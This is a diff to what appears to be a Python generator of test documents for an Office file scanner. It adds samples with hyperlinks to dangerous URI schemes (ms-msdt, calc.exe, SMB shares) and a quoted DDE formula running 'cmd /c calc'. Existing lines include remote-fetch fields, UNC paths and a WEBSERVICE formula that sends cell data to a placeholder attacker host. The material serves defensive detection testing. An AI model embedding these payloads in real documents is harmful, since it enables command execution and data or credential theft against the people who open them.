@@ -63,7 +63,7 @@ fetches.add("frame.docx", "a frame from the network", "remote", lambda: docx({"w
 fetches.add("subdocument.docx", "a part of the document from the network", "remote", lambda: _related("subDocument", "http://evil.invalid/x.docx"))
 fetches.add("merge.docx", "addresses from a data base", "remote", lambda: docx({"word/_rels/settings.xml.rels": relations(("mailMergeSource", "file:///c:/x.csv", "External"))}))
 fetches.add("picture.xlsx", "a picture from the network in a sheet", "remote", lambda: xlsx({"xl/drawings/_rels/drawing1.xml.rels": relations(("image", "http://evil.invalid/a.png", "External"))}))
-for _number, _target in enumerate(("javascript:alert(1)", "file://evil.invalid/x", "\\\\evil.invalid\\x", "ms-msdt:/id", "vbscript:x", "search-ms:query=x")):
+for _number, _target in enumerate(("javascript:alert(1)", "file://evil.invalid/x", "\\\\evil.invalid\\x", "ms-msdt:/id", "vbscript:x", "search-ms:query=x", "calculator:", "file:///C:\\Windows\\System32\\calc.exe", "smb://evil.invalid/x")):
     fetches.add(f"link{_number}.docx", f"a link to {_target}", "remote", lambda target=_target: _related("hyperlink", target))
 fetches.add("text.docx", "a field that takes in a text", "remote", lambda: docx({"word/document.xml": word('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.invalid/x&quot; "/></w:p>')}))
 fetches.add("field-share.docx", "a field that takes in a picture of a share", "remote", lambda: docx({"word/document.xml": word('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\\\\\evil.invalid\\\\a.png&quot; "/></w:p>')}))
@@ -99,6 +99,7 @@ command.add("dde-utf16.docx", "in UTF-16", "command", lambda: docx({"word/docume
 _FORMULAS = {
     "dde": "cmd|' /C calc'!A0",
     "dde-entity": "cmd|&apos; /C calc&apos;!A0",
+    "dde-quoted": "'cmd'|'/c calc'!A0",
     "dde-sum": "1+MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
     "webservice": "_xlfn.WEBSERVICE(&quot;http://evil.invalid/&quot;&amp;A1)",
     "rtd": "RTD(&quot;x&quot;,,&quot;y&quot;)",
